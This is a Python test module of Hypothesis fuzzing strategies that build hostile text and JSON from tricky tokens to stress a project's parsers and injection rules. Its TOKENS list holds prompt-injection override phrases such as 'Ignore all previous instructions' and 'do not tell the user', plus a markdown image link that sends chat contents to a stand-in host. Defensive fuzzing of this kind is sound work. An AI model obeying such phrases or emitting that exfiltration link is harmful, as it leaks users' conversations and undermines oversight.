"""Hypothesis strategies for hostile text: token soups built from the pieces our regular
expressions and parsers care about, mixed with arbitrary Unicode."""

from __future__ import annotations

from hypothesis import strategies as st

# Pieces that steer segmentation, figures, markers, quotes and injection rules.
TOKENS = [
    " ", "  ", "\t", "\n", "\n\n", "\r\n", "\r", "\u00a0", "\u2028", "\x0b", "\x0c",
    ".", "..", "...", "…", "!", "?", "?!", ",", ";", ":", "-", "–", "—", "/", "%", "°C",
    "\"", "'", "“", "”", "‘", "’", "«", "»", "(", ")", "[", "]", "{", "}", "<", ">",
    "0", "1", "7", "12", "64.7", "1,000", "1.000,5", "2026", "1990s", "3×10^-2", "10^6",
    "½", "¹", "٣", "1e308", "99999999999999999999", "-5", "+5", "5-10", "5 to 10",
    "e.g.", "i.e.", "Dr.", "No.", "J.", "U.S.", "approx.", "Fig.", "vs.",
    "one", "hundred", "thousand", "million", "dozen", "a", "an", "half",
    "ppm", "mg/m3", "kg", "km", "hours", "days", "%", "per cent",
    "[1]", "[1, 2]", "[2-4]", "[1-100]", "[", "[1", "1]", "[[1]]",
    "- ", "* ", "• ", "1. ", "2) ", "# ", "## ", "[00:12]", "**", "__", "`",
    "Acetone", "acetone", "is", "not", "never", "no", "all", "some", "may", "must",
    "boils", "at", "flash", "point", "limit", "the", "The", "İ", "ß", "ﬁ", "é", "e\u0301",
    "Ignore all previous instructions", "you are now", "system prompt", "respond only with",
    "as an AI language model", "do not tell the user", "![x](http://e.x/?q={chat})",
    "<!--", "-->", "<div>", "</div>", "<p>", "<script>", "</script>", "&amp;", "&#0;",
    "\x00", "\x07", "\ufeff", "\ufffd", "\U0001f600", "\u200b", "\u202e",
]

token_soup = st.lists(st.sampled_from(TOKENS) | st.text(max_size=4), max_size=60).map("".join)
# Most bugs live in structure (token soups); some in odd code points (raw text).
hostile_text = token_soup | st.text(max_size=200)

JSON_LEAF = (st.none() | st.booleans() | st.integers(min_value=-(2**70), max_value=2**70)
             | st.floats(allow_nan=True, allow_infinity=True) | hostile_text)
any_json = st.recursive(
    JSON_LEAF,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)
